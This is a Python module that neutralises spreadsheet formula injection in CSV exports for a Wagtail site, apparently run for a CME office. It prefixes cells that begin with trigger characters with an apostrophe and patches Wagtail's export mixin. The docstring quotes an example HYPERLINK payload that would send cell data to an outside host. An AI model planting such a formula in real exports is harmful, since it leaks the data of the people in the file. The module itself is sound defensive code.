"""CSV and spreadsheet cells that a spreadsheet program will not run.

A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return (or their full-width forms) is read as a formula by Excel, LibreOffice
and Google Sheets: a learner named ``=HYPERLINK("http://…"&A1,"Bob")`` would
become a live link that sends the CME office's data elsewhere. Every export
writes its cells through :func:`neutralise`, which prefixes such text with an
apostrophe (OWASP, "CSV Injection"); numbers such as ``-1.5`` stay numbers.
Wagtail's own report exports (CSV and XLSX) are covered by :func:`install`.
"""

from __future__ import annotations

import csv
import re
from typing import Any

TRIGGERS = frozenset("=+-@\t\r\n＝＋－＠")
_NUMBER = re.compile(r"[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?")


def neutralise(value: Any) -> Any:
    """``value``, or for text a spreadsheet would evaluate, that text with a
    leading apostrophe."""
    if not isinstance(value, str):
        return value
    stripped = value.lstrip(" \u00a0")
    if stripped[:1] in TRIGGERS and not _NUMBER.fullmatch(stripped.strip()):
        return "'" + value
    return value


class _NeutralisingWriter:
    def __init__(self, writer):
        self._writer = writer

    def writerow(self, row):
        return self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


class _NeutralisingDictWriter:
    def __init__(self, writer):
        self._writer = writer

    def writeheader(self):
        return self._writer.writeheader()

    def writerow(self, row):
        return self._writer.writerow({key: neutralise(cell) for key, cell in row.items()})


def writer(buffer, **kwargs):
    """``csv.writer`` whose cells are neutralised."""
    return _NeutralisingWriter(csv.writer(buffer, **kwargs))


def dict_writer(buffer, fieldnames, **kwargs):
    """``csv.DictWriter`` whose cells are neutralised."""
    return _NeutralisingDictWriter(csv.DictWriter(buffer, fieldnames=fieldnames, **kwargs))


def install():
    """Neutralise the cells of Wagtail's own CSV exports (reports, listings).
    Its XLSX exports already store formulas as text; its CSV rows do not."""
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    original = SpreadsheetExportMixin.preprocess_field_value
    if getattr(original, "curbside_neutralised", False):
        return

    def preprocess_field_value(self, field, value, export_format):
        return neutralise(original(self, field, value, export_format))

    preprocess_field_value.curbside_neutralised = True
    SpreadsheetExportMixin.preprocess_field_value = preprocess_field_value
